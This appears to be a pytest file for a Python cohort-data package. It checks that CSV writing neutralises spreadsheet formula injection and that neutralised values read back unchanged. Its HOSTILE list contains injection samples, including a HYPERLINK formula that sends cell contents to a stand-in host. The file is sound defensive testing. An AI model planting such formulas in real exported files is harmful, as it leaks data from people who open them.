"""CSV formula injection: no cell we write makes a spreadsheet run a formula, and reading back
a cohort we wrote gives the values as they were.

The rule (OWASP): a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading ``'``; so does one beginning with quotes and then such a character (so
the added quote can be told from the data's own); numbers and dates are written as they are.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dah_outcomes import Cohort
from dah_outcomes.io.cohort_files import load_cohort, save_cohort
from dah_outcomes.io.files import neutralise_cells, restore_cells, write_csv

TRIGGERS = "=+-@\t\r"
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+44 20 7946 0000",
    "-2+3",
    "-",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "''+two quotes",
    "@",
    "=",
]
KEPT = [
    "'plain quote",
    "-3.5",
    "+12",
    "-1e-3",
    ".5",
    "2020-01-31",
    "P1",
    "a=b",
    "O'Brien",
    "",
    "naïve",
]


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def dangerous(cell: str) -> bool:
    """A spreadsheet would run it: a trigger first, and not a plain number."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in TRIGGERS and cell != ""
    return False


def test_hostile_cells_are_neutralised_numbers_and_dates_kept(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "text": HOSTILE,
            "number": [-3.5, 2.0, -0.25, 1e-9, -7.0, 0.0, 3.0, -1.0, 2.5, 4.0, -9.0, 1.0],
            "count": pd.array([-3, 2, None, 4, 5, 6, 7, 8, 9, 10, 11, -12], dtype="Int64"),
            "date": pd.to_datetime(["2020-01-31"] * 12),
        }
    )
    path = write_csv(tmp_path / "t.csv", frame, date_format="%Y-%m-%d")
    rows = cells(path)
    assert rows[0] == ["text", "number", "count", "date"]
    for written, original in zip(rows[1:], HOSTILE, strict=True):
        assert written[0] == "'" + original
        assert not dangerous(written[0])
    assert [r[1] for r in rows[1:4]] == ["-3.5", "2.0", "-0.25"]
    assert [r[2] for r in rows[1:4]] == ["-3", "2", ""]
    assert {r[3] for r in rows[1:]} == {"2020-01-31"}


def test_harmless_text_is_written_as_is(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "k.csv", pd.DataFrame({"v": KEPT}))
    assert [r[0] if r else "" for r in cells(path)[1:]] == KEPT


def test_every_text_dtype_and_the_header(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "=cmd": pd.Series(["=a", "b"], dtype="string"),
            "obj": pd.Series(["@x", 3], dtype=object),
            "cat": pd.Series(["-x", "y"], dtype="category"),
            "flag": pd.array([True, None], dtype="boolean"),
        }
    )
    rows = cells(write_csv(tmp_path / "d.csv", frame))
    assert rows[0] == ["'=cmd", "obj", "cat", "flag"]
    assert rows[1][:3] == ["'=a", "'@x", "'-x"]
    assert rows[2][:3] == ["b", "3", "y"]
    back = restore_cells(pd.read_csv(tmp_path / "d.csv", dtype=str, keep_default_na=False))
    assert list(back.columns) == list(frame.columns)
    assert back.iloc[0, :3].tolist() == ["=a", "@x", "-x"]


def test_nothing_to_neutralise_is_not_copied() -> None:
    frame = pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})
    assert neutralise_cells(frame) is frame
    assert restore_cells(frame) is frame


def test_a_cohort_round_trips_hostile_values(small_tables, tmp_path: Path) -> None:
    patients, episodes = (t.copy() for t in small_tables)
    ids = ["=1+1", "+P2", "-P3", "@P4", "'=P5"]
    rename = dict(zip(patients["patient_id"], ids, strict=True))
    patients["patient_id"] = patients["patient_id"].map(rename)
    episodes["patient_id"] = episodes["patient_id"].map(rename)
    patients["site"] = ["=A", "\tA", "'-B", "B", "-"]
    cohort = Cohort(patients, episodes)
    save_cohort(cohort, tmp_path / "c")
    text = (tmp_path / "c" / "patients.csv").read_text()
    assert "\n'=1+1," in text
    assert "\n''=P5," in text
    for name in ("patients.csv", "episodes.csv"):
        for row in cells(tmp_path / "c" / name)[1:]:
            assert not any(dangerous(cell) for cell in row), row
    assert json.loads((tmp_path / "c" / "provenance.json").read_text())["csv_cells"]
    back = load_cohort(tmp_path / "c")
    assert back.fingerprint == cohort.fingerprint
    assert sorted(back.patients["patient_id"]) == sorted(ids)
    assert back.patients["site"].tolist() == cohort.patients["site"].tolist()
    assert {"=A", "'-B", "-"} <= set(back.patients["site"])


def test_files_not_written_by_us_are_read_as_they_are(small_tables, tmp_path: Path) -> None:
    """Restoring happens only where we neutralised: a hand-made table keeps its quotes."""
    patients, episodes = (t.copy() for t in small_tables)
    patients.loc[0, "site"] = "'=A"
    patients.to_csv(tmp_path / "patients.csv", index=False)
    episodes.to_csv(tmp_path / "episodes.csv", index=False)
    back = load_cohort(tmp_path)
    assert "'=A" in set(back.patients["site"])


text_cells = st.text(
    alphabet=st.sampled_from(list("'=+-@\t\r ,\"\n0123456789.eEaZ;é")), max_size=12
)


@settings(max_examples=300, deadline=None)
@given(st.lists(text_cells, min_size=1, max_size=8))
def test_property_round_trip_and_no_formula(values: list[str]) -> None:
    # two columns: pandas reads a one-column row holding only spaces as a blank line
    frame = pd.DataFrame({"v": values, "n": range(len(values))})
    with tempfile.TemporaryDirectory() as tmp:
        text = write_csv(Path(tmp) / "p.csv", frame).read_bytes().decode("utf-8")
    written = [r[0] for r in csv.reader(io.StringIO(text, newline=""))][1:]
    assert len(written) == len(values)
    assert not any(dangerous(c) for c in written)
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, na_values=[])
    assert restore_cells(back)["v"].tolist() == values


@pytest.mark.parametrize("value", ["-3.5", "+1", "1e5", "-0", ".25"])
def test_numbers_as_text_stay_numbers(value: str) -> None:
    assert neutralise_cells(pd.DataFrame({"v": [value]}))["v"].tolist() == [value]
